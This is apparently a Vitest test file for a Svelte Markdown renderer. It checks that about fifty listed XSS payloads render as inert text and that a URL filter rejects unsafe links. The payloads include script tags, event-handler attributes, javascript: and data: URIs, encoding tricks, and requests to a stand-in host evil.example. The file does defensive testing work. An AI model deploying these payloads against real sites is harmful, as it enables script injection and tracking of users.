import { cleanup, render, waitFor } from '@testing-library/svelte';
import { afterEach, expect, test } from 'vitest';
import Markdown from '../../web/kit/Markdown.svelte';
import { safeHref } from '../../web/kit/markdown-tree.ts';

afterEach(cleanup);

async function rendered(source: string, inline = false): Promise<HTMLElement> {
  const { container } = render(Markdown, { source, inline });
  await waitFor(() => expect(container.querySelector('.plain')).toBeNull());
  if (inline) await Promise.resolve();
  return container;
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '![pixel](https://evil.example/pixel.png)',
  '![x](x "onerror=alert(1)")',
  '![ref][r]\n\n[r]: https://evil.example/p.png',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example)">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<form action="https://evil.example"><input name=p></form>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java&#x09;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml;utf8,<svg/onload=alert(1)>)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x](/\\evil.example)',
  '[x](\u0001javascript:alert(1))',
  '[x](%6Aavascript%3Aalert(1))',
  '[r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```" onmouseover="alert(1)\nx\n```',
  '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '# <img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<x onclick=alert(1)>{@html "<b>"}</x>',
  '{{constructor.constructor("alert(1)")()}}',
  '**<b onclick=alert(1)>x</b>**',
  '- [x] <input onfocus=alert(1) autofocus>',
];

const listed = new Set(
  'div p h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code hr br strong em s a table thead tbody tr th td'.split(' '),
);

test.each(hostile.flatMap((source) => [[source, false] as const, [source, true] as const]))(
  'hostile text stays text: %j (inline %s)',
  async (source, inline) => {
    const page = await rendered(source, inline);
    for (const element of page.querySelectorAll('*')) {
      expect(listed).toContain(element.tagName.toLowerCase());
      for (const { name, value } of element.attributes) {
        expect(['class', 'href', 'rel', 'target', 'start']).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/[^/]|#|\/(?!\/)|[^:/]+(\/|$))/);
      }
    }
    expect(page.querySelectorAll('script, img, iframe, style, svg, input')).toHaveLength(0);
  },
);

test('a link away opens elsewhere and tells the other page nothing', async () => {
  const link = (await rendered('[manual](https://www.postgresql.org/docs/)')).querySelector('a');
  expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  expect(link?.getAttribute('target')).toBe('_blank');
});

test('a link inside stays here', async () => {
  const link = (await rendered('[RUN-007](/runbooks/RUN-007#step-2)')).querySelector('a');
  expect(link?.getAttribute('href')).toBe('/runbooks/RUN-007#step-2');
  expect(link?.hasAttribute('target')).toBe(false);
});

test('structure comes through: headings one level down, lists, code, tables', async () => {
  const page = await rendered('# Scope\n\n1. one\n2. two\n\n`code`\n\n| a | b |\n|---|--:|\n| x | 1 |');
  expect(page.querySelector('h2')?.textContent).toBe('Scope');
  expect(page.querySelectorAll('ol > li')).toHaveLength(2);
  expect(page.querySelector('code')?.textContent).toBe('code');
  expect(page.querySelector('td.n')?.textContent).toBe('1');
});

test('text that looks like markup is shown as it was typed', async () => {
  expect((await rendered('p99 <b>30 s</b> & rising')).textContent?.trim()).toBe('p99 <b>30 s</b> & rising');
});

test('an address is judged as a browser would read it', () => {
  expect(['https://a.example', '#x', '/x', 'x/y.md'].map(safeHref)).toEqual([
    'https://a.example',
    '#x',
    '/x',
    'x/y.md',
  ]);
  expect(
    ['', '//a', '\\\\a', 'java\nscript:1', ' javascript:1', 'mailto:a@b', 'https:', 'http:///x'].map(safeHref),
  ).toEqual(Array(8).fill(undefined));
});
